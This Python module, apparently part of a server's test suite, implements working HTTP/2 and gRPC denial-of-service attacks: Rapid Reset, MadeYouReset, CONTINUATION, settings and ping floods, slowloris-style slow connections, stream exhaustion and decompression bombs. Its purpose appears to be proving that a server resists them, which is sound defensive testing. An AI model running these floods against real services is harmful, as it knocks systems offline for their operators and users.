"""Attacks that go on: what one connection, or many, can send without end."""

import asyncio
import contextlib
import itertools
import zlib
from collections.abc import Awaitable, Callable, Sequence
from contextlib import AsyncExitStack

from hyperframe.frame import (
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from tests.proofs.wire.malformed import CONTINUATION, HEADERS, SETTINGS, frame, setting
from tests.proofs.wire.raw import (
    PATH,
    PREFACE,
    Raw,
    begun,
    connected,
    grpc_frame,
    request_headers,
    window,
)

Attack = Callable[[int], Awaitable[None]]
MIB = 1 << 20
LARGEST = 4 * MIB
CANCEL = 8
BATCH = 100
MANY = 500
SOME = 5
CHUNK = 16_000
PAUSE_S = 0.01
ENCODING = "gzip"


async def rapid_reset(port: int) -> None:
    """CVE-2023-44487: open a stream, reset it, without end."""
    await _repeat(port, lambda raw, stream: [*_open(raw, stream), RstStreamFrame(stream, CANCEL)])


async def made_you_reset(port: int) -> None:
    """CVE-2025-8671: open a stream, make the server reset it."""
    await _repeat(port, lambda raw, stream: [*_open(raw, stream), window(stream, 0)])


async def continuations(port: int) -> None:
    """Headers that never end, in small CONTINUATION frames (VU#421644)."""
    part = frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * 100)
    await _stream_of(port, frame(HEADERS, 0, 1, b""), part * BATCH)


async def early_continuations(port: int) -> None:
    """The same before the limit holds: the server's settings are not acknowledged."""
    part = frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * 100)
    async with begun(port) as raw:
        raw.mute()
        await raw.send(frame(HEADERS, 0, 1, b""))
        while not raw.outcome.closed:
            await raw.send(part * BATCH)
            await asyncio.sleep(0)


async def empty_continuations(port: int) -> None:
    """The same without a byte in them."""
    await _stream_of(port, frame(HEADERS, 0, 1, b""), frame(CONTINUATION, 0, 1, b"") * BATCH)


async def settings(port: int) -> None:
    """Settings without end, each of which is to be acknowledged (CVE-2019-9515)."""
    await _stream_of(port, b"", frame(SETTINGS, 0, 0, setting(4, 65_535)) * BATCH)


async def pings(port: int) -> None:
    """Pings without end (CVE-2019-9512)."""
    await _stream_of(port, b"", PingFrame(0, b"12345678").serialize() * BATCH)


async def empty_data(port: int) -> None:
    """Frames of data without data (CVE-2019-9518)."""
    async with begun(port) as raw:
        await raw.send(*_open(raw, 1), DataFrame(1, b"").serialize() * BATCH)
        while not raw.outcome.closed:
            await raw.send(DataFrame(1, b"").serialize() * BATCH)
            await asyncio.sleep(0)


async def unread(port: int) -> None:
    """Calls whose answers are not read: a window of zero (CVE-2019-9517)."""
    await _streams(
        port,
        lambda raw, at: [*_open(raw, at), DataFrame(at, grpc_frame(), flags=["END_STREAM"])],
        {4: 0},
    )


async def too_many_streams(port: int) -> None:
    """Streams far beyond the limit, all kept open."""
    await _streams(port, _open)


async def half_calls(port: int) -> None:
    """Calls that end without having asked anything."""
    await _streams(
        port,
        lambda raw, at: [raw.headers(at, request_headers(), "END_HEADERS", "END_STREAM")],
    )


async def slow_starters(port: int) -> None:
    """Many connections that say the preface a byte at a time."""
    await _crowd(port, PREFACE)


async def idle_connections(port: int) -> None:
    """Many connections that say nothing after the settings."""
    await _crowd(port, PREFACE + SettingsFrame(0).serialize(), whole=True)


async def slow_headers(port: int) -> None:
    """Many connections whose headers come a byte at a time."""
    head = frame(HEADERS, 4, 1, b"", 1000)
    await _crowd(port, PREFACE + SettingsFrame(0).serialize() + head + b"\x40\x01x\x01y" * 200)


async def churn(port: int) -> None:
    """Connections opened and dropped, one after the other."""
    while True:
        with contextlib.suppress(OSError, TimeoutError):
            async with begun(port) as raw:
                await raw.send(*_open(raw, 1))
        await asyncio.sleep(0)


async def oversize(port: int) -> None:
    """Messages of a byte more than are taken."""
    await _bodies(port, grpc_frame(b"\x0a" + bytes(LARGEST)), {})


async def promises(port: int) -> None:
    """Messages that say that they are 4 GB."""
    await _bodies(port, grpc_frame(bytes(64 * 1024), length=0xFFFFFFFF), {})


async def bombs(port: int) -> None:
    """Messages of 64 KB that unpack to 64 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(64)) + packer.flush()
    await _bodies(port, grpc_frame(packed, compressed=1), {"grpc-encoding": ENCODING})


async def small_bombs(port: int) -> None:
    """Messages of 7 KB that unpack to just what the transport takes."""
    packed = zlib.compress(bytes(2 * LARGEST - 1), 9)
    await _bodies(port, grpc_frame(packed, compressed=1), {"grpc-encoding": "deflate"})


ATTACKS: dict[str, Attack] = {
    it.__name__: it
    for it in (
        *(rapid_reset, made_you_reset, continuations, early_continuations, empty_continuations),
        *(settings, pings, empty_data, unread, too_many_streams, half_calls),
        *(slow_starters, idle_connections, slow_headers, churn),
        *(oversize, promises, bombs, small_bombs),
    )
}


def _open(raw: Raw, stream: int) -> list[HeadersFrame]:
    return [raw.headers(stream, request_headers())]


async def _repeat(port: int, frames: Callable[[Raw, int], Sequence[Frame]]) -> None:
    """The frames for one stream after another, on a new connection whenever one was closed."""
    async with begun(port) as raw:
        for at in itertools.count():
            parts = [it for nth in range(BATCH) for it in frames(raw, 2 * (at * BATCH + nth) + 1)]
            await raw.send(*parts)
            await asyncio.sleep(0)
            if raw.outcome.closed or raw.outcome.goaway is not None:
                return


async def _streams(
    port: int,
    frames: Callable[[Raw, int], Sequence[Frame]],
    settings: dict[int, int] | None = None,
) -> None:
    """The frames for one stream after another, some at once, until the connection is closed."""
    async with begun(port, settings) as raw:
        await raw.until(lambda: raw.settings, 2)
        for stream in itertools.count(1, 2):
            await raw.send(*frames(raw, stream))
            if stream % BATCH == 1:
                await asyncio.sleep(PAUSE_S)
            if raw.outcome.closed:
                return


async def _stream_of(port: int, first: bytes, part: bytes) -> None:
    """The same bytes again and again, until the connection is closed."""
    async with begun(port) as raw:
        await raw.until(lambda: raw.settings, 2)
        await asyncio.sleep(PAUSE_S)  # now the server knows that its limits are known
        await raw.send(first)
        while not raw.outcome.closed:
            await raw.send(part)
            await asyncio.sleep(0)


async def _crowd(port: int, said: bytes, *, whole: bool = False) -> None:
    """Many connections that say it, byte by byte or at once, and then stay."""
    async with AsyncExitStack() as stack:
        raws = []
        for _ in range(MANY):
            raws.append(await stack.enter_async_context(connected(port)))
            raws[-1].mute()
        for at in range(1 if whole else len(said)):
            for raw in raws:
                await raw.send(said if whole else said[at : at + 1])
            await asyncio.sleep(PAUSE_S)
        await asyncio.Event().wait()


async def _bodies(port: int, body: bytes, more: dict[str, str]) -> None:
    """Some connections that send such bodies, one after the other."""

    async def one() -> None:
        async with begun(port) as raw:
            await raw.until(lambda: raw.settings, 2)
            for stream in itertools.count(1, 2):
                await raw.send(raw.headers(stream, request_headers(PATH, *more.items())))
                await _send_body(raw, stream, body)
                await raw.refused(5, stream)
                if raw.outcome.closed:
                    return

    await asyncio.gather(*(one() for _ in range(SOME)))


async def _send_body(raw: Raw, stream: int, body: bytes) -> None:
    for at in range(0, len(body), CHUNK):
        if raw.of(stream).refused or raw.outcome.closed:
            return
        last = ["END_STREAM"] if at + CHUNK >= len(body) else []
        await raw.send(DataFrame(stream, body[at : at + CHUNK], flags=last))
        if at % (64 * CHUNK) == 0:
            await asyncio.sleep(PAUSE_S)
